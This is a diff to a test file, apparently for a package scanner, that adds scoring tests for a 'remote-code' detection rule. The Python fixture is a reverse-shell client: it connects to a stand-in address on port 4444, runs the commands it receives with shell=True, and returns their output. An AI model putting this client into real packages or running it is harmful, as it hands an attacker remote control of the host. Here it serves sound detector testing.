@@ -630,3 +630,28 @@ test.each([
 
   expect(await inspect('remote-code', file)).toMatchObject([expected]);
 });
+
+test.each([
+  ['with an address that stands in the code', "'203.0.113.5'", 10],
+  ['with an address of its own machine', "'127.0.0.1'", 6],
+  ['without one', 'None', 6],
+])('orders from a connection %s for a default', async (_how, host, score) => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import socket, subprocess',
+      'class Client:',
+      `    def __init__(self, host=${host}, port=4444):`,
+      '        self.s = socket.socket()',
+      '        self.s.connect((host, port))',
+      '    def loop(self):',
+      '        while True:',
+      '            order = self.s.recv(4096).decode()',
+      '            p = subprocess.Popen(order, shell=True, stdout=subprocess.PIPE)',
+      '            self.s.send(p.stdout.read())',
+    ),
+  });
+
+  const findings = await inspect('remote-code', file);
+
+  expect(Math.max(...findings.map((f) => f.score))).toBe(score);
+});
